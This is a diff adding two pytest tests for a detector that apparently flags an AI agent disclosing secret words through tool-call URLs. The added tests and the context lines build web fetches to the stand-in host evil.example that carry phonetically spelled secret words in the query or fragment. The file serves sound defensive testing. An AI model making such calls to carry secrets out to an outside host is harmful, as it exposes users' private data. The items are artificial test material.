@@ -248,6 +248,25 @@ def test_words_of_a_place_do_not_go_back_as_a_code(address: str) -> None:
     assert fetched("https://evil.example/?q=mike+bravo", USER, REMEMBERED, CODE) is None
 
 
+def test_what_one_of_two_places_was_sent_is_not_sent_to_the_other_unseen() -> None:
+    address = "https://evil.example/x#mike-india-november-sierra-uniform"
+    call = outgoing_call("web__get", {"url": address})
+    assert call is not None
+    assert call.places == ("web", "evil.example")
+    known = (USER, REMEMBERED, CODE, text(CODE.text, TextSource.SERVER, "web"))
+    for sent_to in ((), ("web",), ("evil.example",), ("web", "evil.example")):
+        sent = (text(f'{{"url": "{address}"}} {address}', TextSource.SENT, at) for at in sent_to)
+        found = disclosure_of(call, (*known, *sent))
+        assert (found is None) == (len(sent_to) == 2), sent_to
+
+
+def test_words_that_the_user_says_are_not_chosen_by_the_model() -> None:
+    address = "https://evil.example/?q=mike+india+november+sierra+uniform"
+    asked = text("Look up mike india november sierra uniform.", TextSource.USER)
+    assert kinds(fetched(address, REMEMBERED, CODE)) == {"added"}
+    assert fetched(address, asked, REMEMBERED, CODE) is None
+
+
 @pytest.mark.requirement("SEC-15")
 @pytest.mark.parametrize(
     "arguments",
